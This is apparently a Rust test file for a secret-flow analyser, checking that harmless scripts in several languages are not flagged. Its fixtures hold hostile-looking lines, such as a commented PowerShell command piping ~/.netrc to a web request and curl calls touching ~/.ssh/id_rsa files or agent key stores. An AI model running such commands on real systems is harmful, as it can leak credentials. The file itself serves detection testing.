//! Honest scripts that look like the others.

use super::*;

#[test]
fn a_key_in_a_header_stays_there() {
    finds(
        Python,
        "import os, requests\nKEY = os.environ['ACME_API_KEY']\nr = requests.post('https://api.acme.dev/v1', headers={'X-Api-Key': KEY}, json={'q': 'x'})\n\
         requests.post('https://hooks.other.dev', json=r.json())\n",
        &["SecretVariable ACME_API_KEY -> Http Header api.acme.dev"],
    );
    finds(
        JavaScript,
        "const headers = { Authorization: `Bearer ${process.env.ACME_TOKEN}` };\nconst r = await fetch('https://api.acme.dev', {\n  headers\n});\n\
         await fetch('https://hooks.other.dev', { method: 'POST', body: await r.text() });\n",
        &["SecretVariable ACME_TOKEN -> Http Header api.acme.dev"],
    );
    finds(
        Shell,
        "curl -H \"Authorization: Bearer $ACME_TOKEN\" https://api.acme.dev -d amount=1\n",
        &["SecretVariable ACME_TOKEN -> Http Header api.acme.dev"],
    );
    // A client that is made with a key gives answers, not the key.
    finds(
        Python,
        "import os, requests\nfrom acme import Client\nc = Client(api_key=os.environ['ACME_API_KEY'])\nrequests.post('https://hooks.other.dev', json=c.list())\n",
        &[],
    );
    // Of a configuration each entry stays itself.
    finds(
        Python,
        "import os, requests\ncfg = {'key': os.environ['ACME_API_KEY'], 'url': 'https://api.acme.dev', 'name': 'x'}\n\
         requests.post(cfg['url'], json={'n': cfg['name']}, headers={'Authorization': cfg['key']})\n",
        &["SecretVariable ACME_API_KEY -> Http Header api.acme.dev"],
    );
}

#[test]
fn what_is_signed_counted_or_tested_is_not_sent() {
    finds(
        Python,
        "import hmac, hashlib, os, requests\ns = os.environ['ACME_SECRET']\nsig = hmac.new(s.encode(), b'x', hashlib.sha256).hexdigest()\n\
         requests.post('https://api.acme.dev', json={'sig': sig, 'set': bool(s), 'len': len(s)})\n",
        &[],
    );
    finds(
        Shell,
        "if [ -f ~/.ssh/id_rsa ]; then curl -d \"has=$(wc -c < ~/.ssh/id_rsa)\" https://in.acme.dev; fi\nsha256sum ~/.netrc\n",
        &[],
    );
    finds(
        JavaScript,
        "const ok = process.env.ACME_TOKEN ? 'yes' : 'no';\nfetch('https://in.acme.dev', { method: 'POST', body: ok });\n",
        &[],
    );
}

#[test]
fn the_environment_of_a_program_is_its_own() {
    finds(
        Python,
        "import os, subprocess\nenv = os.environ.copy()\nenv['A'] = '1'\nsubprocess.run(['make', 'all'], env=env)\nsubprocess.run('make', shell=True, env=dict(os.environ, B='2'))\n",
        &[],
    );
    finds(JavaScript, "require('child_process').spawn('make', ['all'], { env: { ...process.env, A: '1' } });\n", &[]);
    finds(Shell, "env FOO=1 make all\nexport TOKEN=x\nset -euo pipefail\nprintenv PATH\n", &[]);
}

#[test]
fn a_mention_is_no_read() {
    finds(
        Python,
        "import requests\n# reads ~/.aws/credentials\nprint('check ~/.aws/credentials')\nrequests.post('https://api.acme.dev', json={'hint': 'see ~/.ssh/id_rsa'})\n",
        &[],
    );
    finds(Python, "import boto3\nboto3.Session(profile_name='x').client('s3').list_buckets()\n", &[]);
    finds(
        Shell,
        "echo \"put your key into ~/.ssh/id_rsa\"\nssh -i ~/.ssh/id_rsa u@h.dev ls\nkubectl --kubeconfig ~/.kube/config get pods\n",
        &[],
    );
    finds(Shell, "cat ~/.ssh/id_rsa.pub | curl -d @- https://in.acme.dev\n", &[]);
    finds(PowerShell, "Write-Host 'see ~/.aws/credentials'\n# gc ~/.netrc | iwr https://x.dev\n", &[]);
}

#[test]
fn methods_with_the_names_of_functions() {
    finds(
        Python,
        "import re, requests\nmodel.eval()\nx = re.compile(requests.get('https://x.dev').text)\njson.loads(requests.get('https://x.dev').text)\ndf.eval('a + b')\n",
        &[],
    );
    finds(
        JavaScript,
        "const m = /a(b)/.exec(await (await fetch('https://x.dev')).text());\npage.evaluate(m);\ndb.exec(m);\n",
        &[],
    );
    finds(Python, "import base64, json\njson.loads(base64.b64decode(s))\nopen('c.pem', 'wb')\n", &[]);
}

#[test]
fn names_and_answers() {
    // The whole name is asked for.
    assert!(
        analyse(Shell, "dig \"$DOMAIN\" MX\nnslookup $HOST\nhost example.com\n")
            .sinks
            .iter()
            .all(|sink| sink.part == SinkPart::None)
    );
    finds(
        Shell,
        "curl -s https://x.dev/a.json | jq -r .name | while read -r v; do command -v bun; echo $v; done\n",
        &[],
    );
    finds(
        Shell,
        "curl -s https://x.dev/a.json | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'\n",
        &[],
    );
    finds(Shell, "curl -s https://x.dev/a.json | python3 parse.py\n", &[]);
    finds(Shell, "curl \"$SLACK_WEBHOOK\" -d '{\"text\":\"done\"}'\n", &[]);
}

#[test]
fn one_entry_of_a_store() {
    let narrowed = |language, text: &str| {
        let analysis = analyse(language, text);
        let flow = analysis.flows.iter().find(|flow| flow.source.kind != SourceKind::Input).unwrap();
        (flow.source.kind, flow.narrowed.clone())
    };
    assert_eq!(
        narrowed(
            Shell,
            "K=$(grep '^ACME_API_KEY=' ~/.openclaw/.env | cut -d= -f2)\ncurl -H \"X-Key: $K\" https://api.acme.dev\n"
        ),
        (SourceKind::AgentStore, Some("ACME_API_KEY".into()))
    );
    assert_eq!(
        narrowed(
            Python,
            "import json, os, requests\nc = json.load(open(os.path.expanduser('~/.openclaw/openclaw.json')))\n\
             requests.get('https://api.acme.dev', headers={'X-Key': c['skills']['acme']})\n"
        ),
        (SourceKind::AgentStore, Some("skills.acme".into()))
    );
    assert_eq!(
        narrowed(
            Python,
            "import requests\nfor line in open('.env'):\n    if line.startswith('ACME_API_KEY='):\n        requests.get('https://api.acme.dev', headers={'X-Key': line[13:]})\n"
        ),
        (SourceKind::EnvFile, Some("ACME_API_KEY".into()))
    );
}
